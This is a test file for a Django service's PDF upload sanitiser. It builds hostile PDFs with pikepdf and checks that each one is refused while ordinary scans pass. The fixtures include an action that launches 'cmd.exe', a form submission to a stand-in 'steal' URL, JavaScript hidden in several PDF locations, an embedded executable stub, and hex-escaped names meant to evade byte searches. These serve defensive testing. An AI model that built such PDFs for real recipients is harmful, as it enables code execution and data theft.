"""PDF uploads are parsed, not byte-searched: anything active is refused wherever it hides.

Every hostile file is built with pikepdf the way an attacker would: names written with hex escapes
(``/J#61vaScript``), objects packed in compressed object streams, actions on annotations, pages and
form fields, the JavaScript names tree, attachments, XFA, objects nothing refers to. A scan, a
printed letter with internal links, and a bookmark must still pass, byte for byte.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from layanan.core.uploads import UploadRefused, clean_upload

ACTIVE = "skrip, tautan, atau perintah"
EMBEDDED = "berkas lampiran atau formulir khusus"
Build = Callable[[pikepdf.Pdf], None]


def _upload(content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("surat.pdf", content, content_type="application/pdf")


def scan_pdf() -> pikepdf.Pdf:
    """A one-page PDF holding a JPEG, as a scanner app makes it."""
    photo = io.BytesIO()
    Image.new("RGB", (60, 40), (230, 230, 230)).save(photo, "JPEG")
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    image = pikepdf.Stream(pdf, photo.getvalue())
    image.Type = pikepdf.Name.XObject
    image.Subtype = pikepdf.Name.Image
    image.Width, image.Height = 60, 40
    image.ColorSpace = pikepdf.Name.DeviceRGB
    image.BitsPerComponent = 8
    image.Filter = pikepdf.Name.DCTDecode
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
    page.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    return pdf


def saved(pdf: pikepdf.Pdf, *, object_streams: bool = True, **options: object) -> bytes:
    buffer = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(buffer, object_stream_mode=mode, compress_streams=True, **options)  # type: ignore[arg-type]
    return buffer.getvalue()


def js(pdf: pikepdf.Pdf, code: str = "app.alert(1)") -> pikepdf.Object:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def open_action_js(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(js(pdf))


def names_tree_js(pdf: pikepdf.Pdf) -> None:
    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), pdf.make_indirect(js(pdf))]))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pdf.make_indirect(tree))


def annotation(pdf: pikepdf.Pdf, **entries: Any) -> None:
    annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=pikepdf.Array([0, 0, 100, 100]), **entries)
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annot)]))


def link_launch_direct(pdf: pikepdf.Pdf) -> None:
    # The action is a direct dictionary inside the annotation: not an object of its own.
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    annotation(pdf, Subtype=pikepdf.Name.Link, A=action)


def link_uri(pdf: pikepdf.Pdf) -> None:
    annotation(
        pdf, Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://x.example")
    )


def link_submit_form(pdf: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://x.example/steal"))
    annotation(pdf, Subtype=pikepdf.Name.Link, A=action)


def page_additional_action(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = pikepdf.Dictionary(O=pdf.make_indirect(js(pdf)))


def form_field_keystroke(pdf: pikepdf.Pdf) -> None:
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            FT=pikepdf.Name.Tx,
            T=pikepdf.String("nik"),
            Subtype=pikepdf.Name.Widget,
            Rect=pikepdf.Array([0, 0, 100, 20]),
            AA=pikepdf.Dictionary(K=js(pdf)),
        )
    )
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([field]))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))


def xfa_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array([]), XFA=pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    )


def embedded_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["tagihan.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not a letter")


def file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"MZ payload")
    stream.Type = pikepdf.Name.EmbeddedFile
    spec = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F=pikepdf.String("a.exe"), EF=pikepdf.Dictionary(F=stream)
    )
    annotation(pdf, Subtype=pikepdf.Name.FileAttachment, FS=spec)


def outline_js(pdf: pikepdf.Pdf) -> None:
    item = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("Buka"), A=js(pdf)))
    item.Parent = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=item, Last=item, Count=1)
    )
    pdf.Root.Outlines = item.Parent


HOSTILE: dict[str, tuple[Build, str]] = {
    "open action js": (open_action_js, ACTIVE),
    "javascript names tree": (names_tree_js, ACTIVE),
    "link launches a program (direct dictionary)": (link_launch_direct, ACTIVE),
    "link to a web address": (link_uri, ACTIVE),
    "link submits a form": (link_submit_form, ACTIVE),
    "page opening action": (page_additional_action, ACTIVE),
    "form field keystroke script": (form_field_keystroke, ACTIVE),
    "outline item script": (outline_js, ACTIVE),
    "xfa form": (xfa_form, EMBEDDED),
    "embedded file": (embedded_file, EMBEDDED),
    "file attachment annotation": (file_attachment_annotation, EMBEDDED),
}


@pytest.mark.parametrize("object_streams", [True, False], ids=["object streams", "plain objects"])
@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_hostile_pdf_is_refused_wherever_it_hides(name: str, object_streams: bool) -> None:
    build, message = HOSTILE[name]
    pdf = scan_pdf()
    build(pdf)
    content = saved(pdf, object_streams=object_streams)
    if object_streams:
        assert b"/JavaScript" not in content  # a byte search sees nothing
        assert b"/Launch" not in content

    with pytest.raises(UploadRefused, match=message):
        clean_upload(_upload(content))


def _handwritten(catalog_extra: bytes, *objects: bytes) -> bytes:
    """A PDF written by hand, with a correct cross-reference table."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    return bytes(out)


def test_hex_escaped_names_are_read_as_a_viewer_reads_them() -> None:
    content = _handwritten(b"/OpenAction 4 0 R", b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>")
    assert b"/JavaScript" not in content
    assert b"/JS" not in content

    with pytest.raises(UploadRefused, match=ACTIVE):
        clean_upload(_upload(content))


def test_an_object_nothing_refers_to_is_checked_too() -> None:
    content = _handwritten(b"", b"<< /S /JavaScript /JS (app.alert(1)) >>")

    with pytest.raises(UploadRefused, match=ACTIVE):
        clean_upload(_upload(content))


def test_a_scan_passes_byte_for_byte() -> None:
    content = saved(scan_pdf())

    clean = clean_upload(_upload(content))

    assert clean.content == content
    assert clean.content_type == "application/pdf"
    assert clean.extension == "pdf"


def test_internal_links_bookmarks_and_an_opening_page_pass() -> None:
    pdf = scan_pdf()
    pdf.add_blank_page()
    second = pdf.pages[1].obj
    pdf.Root.OpenAction = pikepdf.Array([second, pikepdf.Name.Fit])
    annotation(
        pdf,
        Subtype=pikepdf.Name.Link,
        A=pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([second, pikepdf.Name.Fit])),
    )
    pdf.pages[0].Group = pikepdf.Dictionary(S=pikepdf.Name.Transparency)  # a /S that is no action
    content = saved(pdf)

    assert clean_upload(_upload(content)).content == content


def test_a_pdf_locked_with_a_password_is_refused_plainly() -> None:
    locked = saved(scan_pdf(), encryption=pikepdf.Encryption(owner="pemilik", user="rahasia"))

    with pytest.raises(UploadRefused, match="kata sandi"):
        clean_upload(_upload(locked))


def test_a_pdf_encrypted_without_a_user_password_is_refused_too() -> None:
    locked = saved(scan_pdf(), encryption=pikepdf.Encryption(owner="pemilik", user=""))

    with pytest.raises(UploadRefused, match="kata sandi"):
        clean_upload(_upload(locked))


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.4\nthis is not a pdf at all",
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
    ],
    ids=["garbage", "no pages"],
)
def test_a_broken_pdf_or_one_without_pages_is_refused_plainly(content: bytes) -> None:
    with pytest.raises(UploadRefused, match="rusak"):
        clean_upload(_upload(content))
